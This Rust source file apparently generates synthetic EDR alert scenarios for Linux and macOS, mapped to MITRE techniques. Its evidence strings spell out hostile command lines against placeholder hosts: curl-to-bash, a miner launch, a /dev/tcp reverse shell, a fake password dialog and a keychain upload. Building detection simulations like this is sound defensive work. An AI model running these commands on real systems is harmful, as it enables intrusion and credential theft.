//! Campaigns on Linux and macOS.

use super::{
    Account::{Person, Root},
    Ending, Image, Item, Platform, Step, Story, dropped, installed, run,
    sensors::EDR,
};

pub(super) const BASH: Image = installed("/usr/bin", "bash", "Canonical", 1_396_520);
pub(super) const DASH: Image = installed("/usr/bin", "dash", "Canonical", 125_688);
pub(super) const CURL: Image = installed("/usr/bin", "curl", "Canonical", 260_328);
pub(super) const CRON: Image = installed("/usr/sbin", "cron", "Canonical", 55_944);
pub(super) const SSHD: Image = installed("/usr/sbin", "sshd", "Canonical", 921_288);
pub(super) const SYSTEMD: Image = installed("/usr/lib/systemd", "systemd", "Canonical", 1_849_992);
const PHP: Image = installed("/usr/sbin", "php-fpm8.1", "Canonical", 5_672_336);
const MINER: Image = dropped("/tmp/.X11-unix", "kworkerds", 2_979_640);
const WEB_SHELL: Image = dropped("/var/www/html/uploads", "img_<n>.php", 2_213);
const ZSH: Image = installed("/bin", "zsh", "Apple Inc.", 1_361_200);
const OSASCRIPT: Image = installed("/usr/bin", "osascript", "Apple Inc.", 203_168);
const DMG_APP: Image = dropped("/Volumes/Installer/Installer.app/Contents/MacOS", "Installer", 1_877_504);

pub(super) const STORIES: &[Story] = &[
    Story {
        weight: 5,
        platform: Platform::Linux,
        spread: 5,
        ending: Ending::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious file dropped and launched",
                description: "A script was fetched with curl and handed to a shell, which started a program from a hidden folder.",
                severity: "medium",
                category: "Execution",
                techniques: &["T1059.004", "T1105"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&CRON, &DASH, Root, "suspicious", "/bin/sh -c curl -fsSL http://<ip>/i.sh | bash"),
                    run(&DASH, &CURL, Root, "suspicious", "curl -fsSL http://<ip>/i.sh"),
                    run(&DASH, &BASH, Root, "malicious", "bash"),
                    Item::Address,
                    Item::Url("http://<ip>/i.sh"),
                ],
            },
            Step {
                title: "Possible cryptocurrency miner",
                description: "A process keeps all processors busy and talks to a mining pool.",
                severity: "medium",
                category: "Impact",
                techniques: &["T1496"],
                sensor: &EDR,
                threat: Some(("Trojan:Linux/CoinMiner.K", "CoinMiner")),
                evidence: &[
                    Item::Device,
                    run(
                        &BASH,
                        &MINER,
                        Root,
                        "malicious",
                        "/tmp/.X11-unix/kworkerds -o <domain>:3333 -u 44<n>.<host> -k --donate-level=0",
                    ),
                    Item::File(&MINER, "malicious"),
                    Item::Address,
                ],
            },
        ],
    },
    Story {
        weight: 4,
        platform: Platform::Linux,
        spread: 2,
        ending: Ending::Attack("multiStagedAttack"),
        steps: &[
            Step {
                title: "Suspicious process launched by a web server",
                description: "A web server's worker started a shell. A web shell in the upload folder is the likely cause.",
                severity: "high",
                category: "Persistence",
                techniques: &["T1505.003", "T1190"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&PHP, &DASH, Root, "malicious", "sh -c id; uname -a; cat /etc/passwd"),
                    Item::File(&WEB_SHELL, "malicious"),
                    Item::Address,
                    Item::Url("https://shop.contoso.com/uploads/img_<n>.php?c=id"),
                ],
            },
            Step {
                title: "Reverse shell from a web server process",
                description: "A shell's input and output are tied to a network connection to an external host.",
                severity: "high",
                category: "CommandAndControl",
                techniques: &["T1059.004", "T1095"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(&DASH, &BASH, Root, "malicious", "bash -c 'bash -i >& /dev/tcp/<ip>/4444 0>&1'"),
                    Item::Address,
                ],
            },
        ],
    },
    Story {
        weight: 5,
        platform: Platform::Linux,
        spread: 4,
        ending: Ending::Attack("compromisedAccount"),
        steps: &[Step {
            title: "SSH brute-force attack with a successful sign-in",
            description: "Many failed sign-ins over SSH from one address were followed by a successful one.",
            severity: "medium",
            category: "CredentialAccess",
            techniques: &["T1110.001", "T1021.004"],
            sensor: &EDR,
            threat: None,
            evidence: &[
                Item::Device,
                Item::User,
                Item::Address,
                run(&SSHD, &BASH, Person, "suspicious", "-bash"),
            ],
        }],
    },
    Story {
        weight: 4,
        platform: Platform::MacOs,
        spread: 2,
        ending: Ending::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious AppleScript prompt for a password",
                description: "An installer from a disk image asked for the user's password with a script of its own.",
                severity: "medium",
                category: "CredentialAccess",
                techniques: &["T1056.002", "T1059.002"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &DMG_APP,
                        &OSASCRIPT,
                        Person,
                        "malicious",
                        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
                    ),
                    Item::File(&DMG_APP, "malicious"),
                ],
            },
            Step {
                title: "Keychain contents were archived and sent out",
                description: "The login keychain and browser profiles were packed and uploaded to an external host.",
                severity: "high",
                category: "Exfiltration",
                techniques: &["T1555.001", "T1567"],
                sensor: &EDR,
                threat: Some(("Trojan:MacOS/Amosine.A", "Amosine")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &OSASCRIPT,
                        &ZSH,
                        Person,
                        "malicious",
                        "zsh -c ditto -c -k ~/Library/Keychains /tmp/o<n>.zip && curl -F f=@/tmp/o<n>.zip http://<ip>/log",
                    ),
                    Item::Address,
                ],
            },
        ],
    },
];
